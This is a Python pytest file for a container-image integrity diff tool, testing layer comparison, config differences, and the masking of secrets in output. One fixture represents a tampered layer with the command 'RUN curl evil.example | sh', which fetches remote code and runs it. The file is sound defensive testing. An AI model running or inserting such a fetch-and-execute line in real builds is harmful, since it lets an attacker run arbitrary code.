"""Two images are compared layer by layer and setting by setting, and secrets stay out of it."""

from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.fleet import digest

from deadlight.registry import ImageConfig
from deadlight.server.integrity.differences import (
    HIDDEN,
    MAX_LISTED,
    MAX_VALUE_CHARACTERS,
    ImageDescription,
    compare_images,
    describe,
    hide_secrets,
)


def config(**more: Any) -> ImageConfig:
    values: dict[str, Any] = {"os": "linux", "architecture": "amd64", "variant": "", "created_at": None, "user": ""}
    values |= {"entrypoint": (), "command": (), "env": (), "labels": {}, "working_directory": "", "diff_ids": ()}
    return ImageConfig(digest=digest("config"), **values | more)


def image(*layers: str, **more: Any) -> ImageDescription:
    return describe([(digest(name), len(name)) for name in layers], config(**more))


def changed(running: ImageConfig, expected: ImageConfig) -> dict[str, tuple[str | None, str | None]]:
    found = compare_images(ImageDescription((), running), ImageDescription((), expected))["config"]
    return {item["field"]: (item["running"], item["expected"]) for item in found}


def test_an_image_does_not_differ_from_itself() -> None:
    same = image("base", "app", env=("PASSWORD=hunter2",), labels={"a": "b"})
    assert compare_images(same, same) == {
        "layers": {
            "common": 2,
            "only_running": [],
            "only_running_count": 0,
            "only_expected": [],
            "only_expected_count": 0,
        },
        "config": [],
        "config_count": 0,
        "problem": "",
    }


def test_layers_are_told_by_digest_with_what_made_them() -> None:
    running = image("base", "tampered", layer_commands=("ADD rootfs /", "RUN curl evil.example | sh"))
    layers = compare_images(running, image("base", "app", "late"))["layers"]
    assert layers["common"] == 1
    assert layers["only_running"] == [
        {"digest": digest("tampered"), "size": 8, "created_by": "RUN curl evil.example | sh"}
    ]
    assert [layer["digest"] for layer in layers["only_expected"]] == [digest("app"), digest("late")]


def test_a_history_that_does_not_fit_the_layers_says_nothing() -> None:
    assert [layer.created_by for layer in image("base", "app", layer_commands=("ADD",)).layers] == ["", ""]


def test_every_variable_and_label_is_a_setting_of_its_own() -> None:
    running = config(
        env=("MODE=debug", "PATH=/bin"),
        labels={"team": "shop"},
        entrypoint=("/app", "--debug"),
        user="root",
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    expected = config(env=("MODE=production", "PATH=/bin", "LEVEL=1"), entrypoint=("/app",), user="app")
    assert changed(running, expected) == {
        "created": ("2026-01-01T00:00:00+00:00", ""),
        "entrypoint": ("/app --debug", "/app"),
        "user": ("root", "app"),
        "environment MODE": ("debug", "production"),
        "environment LEVEL": (None, "1"),
        "label team": ("shop", None),
    }


@pytest.mark.parametrize(
    "name",
    ["PASSWORD", "db_password", "PGPASS", "API_TOKEN", "Secret", "AWS_SECRET_ACCESS_KEY", "KEY", "SIGNING_KEY"],
)
def test_what_a_secret_was_and_became_is_hidden_but_not_that_it_changed(name: str) -> None:
    found = changed(config(env=(f"{name}=one",)), config(env=(f"{name}=two",)))
    assert found == {f"environment {name}": (HIDDEN, HIDDEN)}


def test_who_wrote_it_is_no_secret() -> None:
    label = "org.opencontainers.image.authors"
    assert changed(config(labels={label: "ada"}), config()) == {f"label {label}": ("ada", None)}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("postgres://app:hunter2@db/shop", f"postgres://{HIDDEN}@db/shop"),
        ("|1 NPM_TOKEN=abc123 /bin/sh -c npm ci", f"|1 NPM_TOKEN={HIDDEN} /bin/sh -c npm ci"),
        ('ENV DB_PASSWORD="a b" MODE=x', f"ENV DB_PASSWORD={HIDDEN} MODE=x"),
        ("RUN tool --password hunter2 --verbose", f"RUN tool --password {HIDDEN} --verbose"),
        ("RUN tool --auth-token=hunter2", f"RUN tool --auth-token={HIDDEN}"),
        ("RUN tool -v --api-token hunter2", f"RUN tool -v --api-token {HIDDEN}"),
        ("RUN tool --api-key hunter2 --db_password hunter2", f"RUN tool --api-key {HIDDEN} --db_password {HIDDEN}"),
        ("COPY --from=build /app /app", "COPY --from=build /app /app"),
    ],
)
def test_secrets_inside_commands_and_addresses_are_hidden(text: str, shown: str) -> None:
    assert hide_secrets(text) == shown


@given(st.text(min_size=8, alphabet="abcdefgh0123456789"), st.text(max_size=20))
def test_a_secret_variable_s_value_is_nowhere_in_the_evidence(secret: str, other: str) -> None:
    running = image("a", env=(f"API_TOKEN={secret}!", f"OTHER={other}"))
    evidence = msgspec.json.encode(compare_images(running, image("b", env=("API_TOKEN=",))))
    assert f"{secret}!".encode() not in evidence


def test_what_is_listed_is_bounded_and_what_is_counted_is_not() -> None:
    many = image(*map(str, range(150)), env=tuple(f"V{number}={'x' * 5000}" for number in range(150)))
    found = compare_images(many, image("other"))
    assert (len(found["layers"]["only_running"]), found["layers"]["only_running_count"]) == (MAX_LISTED, 150)
    assert (len(found["config"]), found["config_count"]) == (MAX_LISTED, 150)
    assert max(len(item["running"]) for item in found["config"]) == MAX_VALUE_CHARACTERS
